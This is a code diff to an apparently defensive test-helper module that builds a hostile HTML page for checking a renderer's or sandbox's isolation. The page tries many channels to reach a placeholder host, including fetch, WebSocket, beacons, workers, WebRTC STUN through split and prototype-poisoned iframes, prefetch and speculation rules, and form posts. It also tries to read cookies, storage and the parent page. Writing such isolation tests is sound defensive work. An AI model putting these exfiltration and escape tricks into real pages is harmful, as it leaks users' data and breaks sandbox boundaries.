@@ -88,3 +88,61 @@ def image_payloads(canary: str) -> tuple[str, ...]:
         f"{leak}&n=16",
         f"```css\n@import url('{leak}&n=17');\n```",
     )
+
+
+ATTACK = """<!doctype html><title>Attack</title><body><output></output>
+<img src="URL/image"><script src="URL/script"></script><link rel="stylesheet" href="URL/style">
+<link rel="prefetch" href="URL/prefetch"><link rel="preload" as="image" href="URL/preload">
+<link rel="dns-prefetch" href="URL"><link rel="preconnect" href="URL">
+<style>@import "URL/import"; @font-face { font-family: f; src: url(URL/font) }</style>
+<style>p { background: url(URL/background) }</style>
+<p style="font-family: f">text</p><iframe src="URL/frame"></iframe><object data="URL/object"></object>
+<video src="URL/video" poster="URL/poster"></video>
+<script type="speculationrules">{"prefetch": [{"urls": ["URL/speculation"], "eagerness": "immediate"}]}</script>
+<script>
+  const found = {};
+  const attempt = (name, act) => {
+    try { found[name] = String(act()) } catch (error) { found[name] = error.name }
+  };
+  const connect = "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] });" +
+    "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));";
+  const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
+  attempt("fetch", () => void fetch("URL/fetch").catch(() => 0));
+  attempt("request", () => { const r = new XMLHttpRequest(); r.open("GET", "URL/request"); r.send() });
+  attempt("socket", () => void new WebSocket("URL/socket".replace("http", "ws")));
+  attempt("events", () => void new EventSource("URL/events"));
+  attempt("beacon", () => void navigator.sendBeacon("URL/beacon", "x"));
+  attempt("worker", () => void new Worker(URL.createObjectURL(new Blob(["fetch('URL/worker')"]))));
+  attempt("rtc", () => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] });
+    peer.createDataChannel("x");
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  });
+  const inner = `<script>${connect}<\\/script>`;
+  attempt("rtc in a frame", () => add("iframe", { srcdoc: inner }));
+  attempt("rtc in markup", () => { document.querySelector("p").innerHTML = `<iframe srcdoc="${inner}"></iframe>` });
+  attempt("rtc in parts", () => { document.write("<ifr"); document.write(`ame srcdoc="${inner}"></iframe>`) });
+  attempt("poisoned", () => {
+    RegExp.prototype.exec = () => null;
+    Array.prototype[Symbol.iterator] = function* () { yield "iframe" };
+    add("iframe", { srcdoc: inner });
+  });
+  attempt("link", () => add("link", { rel: "prefetch", href: "URL/link" }));
+  attempt("storage", () => localStorage.length);
+  attempt("cookie", () => document.cookie);
+  attempt("parent", () => parent.document.title);
+  attempt("open", () => window.open("URL/open"));
+  attempt("form", () => { add("form", { action: "URL/form" }); document.querySelector("form").submit() });
+  attempt("top", () => { top.location = "URL/top" });
+  document.querySelector("output").textContent = JSON.stringify(found);
+</script>"""
+"""A document that tries to send something to `URL`, to `HOST` by WebRTC, and to reach the page around it."""
+
+
+def attack_document(url: str) -> str:
+    return (
+        ATTACK.replace("URL.createObjectURL", "window.URL.createObjectURL", 1)
+        .replace("URL/", f"{url}/")
+        .replace('"URL"', f'"{url}"')
+        .replace("HOST", url.removeprefix("http://"))
+    )
